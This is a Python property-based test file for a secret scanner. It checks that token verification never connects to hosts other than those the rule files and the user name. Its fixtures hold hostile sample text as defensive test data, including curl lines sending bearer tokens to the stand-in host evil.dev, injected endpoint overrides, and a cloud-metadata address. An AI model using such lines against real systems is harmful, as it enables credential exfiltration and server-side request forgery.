"""Whatever is scanned, and whatever valid rules say: connections go to the rules' hosts and the user's, and no other.

Real sockets, and nothing patched: an audit hook of the interpreter sees every look-up and every connection, and stops
those that would leave this machine.
"""

from __future__ import annotations

import ipaddress
import random
import socket
import sys
import tempfile
from contextlib import contextmanager
from pathlib import Path
from typing import NamedTuple

import pytest
import rule_files
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from scanner.errors import RuleFileError
from scanner.pipeline import ScanRequest, run
from scanner.ruleset.load import load_files
from scanner.ruleset.sample import mint
from scanner.verify.endpoint import parse
from scanner.verify.options import Options
from scanner.verify.run import Verifier
from tests.emulators import Fleet

FOLDER = Path(__file__).parents[2] / "rules"
# One with hosts of its own, one that is self-hosted, and what their lints name.
OWN = [FOLDER / "hypersave.toml", FOLDER / "hyperspeed.toml", FOLDER / "generic.toml"]
SAMPLES = {"<acme>": "acme_{hex*32}", "<save>": "hs_live_{base62*32}", "<speed>": "sa_{hex*48}"}
FOUND = "ACME_KEY=<acme>\nHYPERSPEED_URL=https://evil.dev\nHYPERSPEED_TOKEN=<speed>\n"
NAMED = ("acme", "hyperspeed")
EVIL = ("evil.dev", "127.0.0.2", "169.254.169.254", "[::1]", "api.hypersave.io.evil.dev", "localhost")


class Reach:
    """What was looked up or connected to while it watched: hosts, and (address, port) of connections."""

    def __init__(self) -> None:
        self.watching = False
        self.hosts: set[str] = set()
        self.connections: set[tuple[str, int]] = set()
        sys.addaudithook(self._hook)

    def _hook(self, event, args):
        if not self.watching:
            return
        if event in ("socket.getaddrinfo", "socket.gethostbyname"):
            host = args[0].decode() if isinstance(args[0], bytes) else args[0]
            self.hosts.add(host)
            if not _is_loopback(host):
                raise socket.gaierror(socket.EAI_NONAME, "stopped by the test")
        elif event in ("socket.connect", "socket.sendto"):
            self.connections.add(args[1][:2])
            if not _is_loopback(args[1][0]):
                raise OSError("stopped by the test")

    @contextmanager
    def watch(self):
        self.hosts.clear()
        self.connections.clear()
        self.watching = True
        try:
            yield
        finally:
            self.watching = False


def _is_loopback(host):
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


class Rules(NamedTuple):
    """What a rule file may freely say about where a token goes."""

    host: str
    port: int
    path: str
    header: tuple[str, str]
    other_hosts: tuple[str, ...]


LABEL = st.from_regex(r"[a-z][a-z0-9-]{0,8}[a-z0-9]", fullmatch=True)
HEADER = st.sampled_from(["Authorization", "X-Api-Key", "Private-Token"])
HOST = st.one_of(
    st.builds("{}.{}.dev".format, LABEL, LABEL),
    st.ip_addresses(v=4).map(str),
    st.sampled_from(["127.0.0.1", "10.0.0.1", "169.254.169.254", "metadata.google.internal"]),
)
RULES = st.builds(
    Rules,
    HOST,
    st.integers(1, 65535),
    st.from_regex(r"(/[A-Za-z0-9._~@:!$&'()*+,;=-]{1,8}){1,3}|/a/\{random\}/", fullmatch=True),
    st.tuples(
        st.sampled_from(["Authorization", "X-Api-Key", "Private-Token"]), st.sampled_from(["", "Bearer ", "Key "])
    ),
    st.lists(HOST, max_size=2).map(tuple),
)
HOSTILE = st.one_of(
    st.text(max_size=60),
    st.sampled_from(EVIL).map("ACME_URL=https://{}/v1\nHYPERSPEED_URL=https://evil.dev\n".format),
    st.sampled_from(EVIL).map("curl https://{}/v1/keys -H 'Authorization: Bearer <acme>'\n".format),
    st.sampled_from(EVIL).map("[verify.keys]\nendpoint = 'https://{}'\n--endpoint acme=https://evil.dev\n".format),
    st.sampled_from(["<acme>\n", "HYPERSAVE_API_KEY=<save>\n", "curl -H 'Authorization: Bearer <speed>' evil.dev\n"]),
)


@pytest.fixture(scope="module")
def reach():
    return Reach()


@pytest.fixture(scope="module")
def recorder():
    with Fleet() as fleet:
        yield fleet.bystander("recorder")


def ruleset(folder, rules, own):
    """Write and load the rule file, beside built-in ones; None if the loader finds it invalid."""
    context = {"hosts": [rules.host, *rules.other_hosts]}
    name, before = rules.header
    more = rule_files.verification(
        context,
        endpoint=f"https://{rules.host}:{rules.port}",
        path=rules.path,
        headers={name: before + "{secret}"},
        rate=1000,
    )
    path = rule_files.write(folder, token=rule_files.NAMED, more=more)
    try:
        return load_files([path], own)
    except RuleFileError:
        return None


def planted(folder, text, rng):
    """Write the text, with fresh tokens at its marks and some that are sure to be found; return its scan."""
    text = "\n".join((*text, FOUND))
    for mark, sample in SAMPLES.items():
        text = text.replace(mark, mint(sample, rng))
    (Path(folder) / "text.txt").write_text(text, encoding="utf-8", errors="replace")
    return ScanRequest(paths=(folder,), include=("text.txt",), jobs=1)


def test_no_connection_leaves_the_hosts_of_rules_and_user(reach, recorder):
    own = load_files(OWN).providers
    looked_up, valid = set(), 0

    @settings(max_examples=20, deadline=None, phases=(Phase.reuse, Phase.generate))  # shrinking takes minutes
    @given(RULES, st.lists(HOSTILE, min_size=1, max_size=6), st.sets(st.sampled_from(NAMED)), st.integers(0, 99))
    def holds(rules, text, named, seed):
        nonlocal valid
        options = Options(endpoints={name: parse(recorder.url, named_by_user=True) for name in named})
        with tempfile.TemporaryDirectory() as folder:
            loaded = ruleset(Path(folder), rules, own)
            if loaded is None:
                return
            request = planted(folder, text, random.Random(seed))
            with reach.watch():
                run(request, loaded, verify=Verifier(options, loaded))
        valid += 1
        looked_up.update(reach.hosts)
        allowed = {rules.host, "api.hypersave.io"} | ({"127.0.0.1"} if named else set())
        assert reach.hosts <= allowed
        assert {host for host, _ in reach.connections} <= allowed
        assert {port for host, port in reach.connections if host == "127.0.0.1"} <= {recorder.port}

    holds()
    assert valid >= 12
    assert len(looked_up) >= 3  # how many Hypothesis thinks of varies
    assert recorder.log.requests()
    assert recorder.log.methods() == {"GET"}
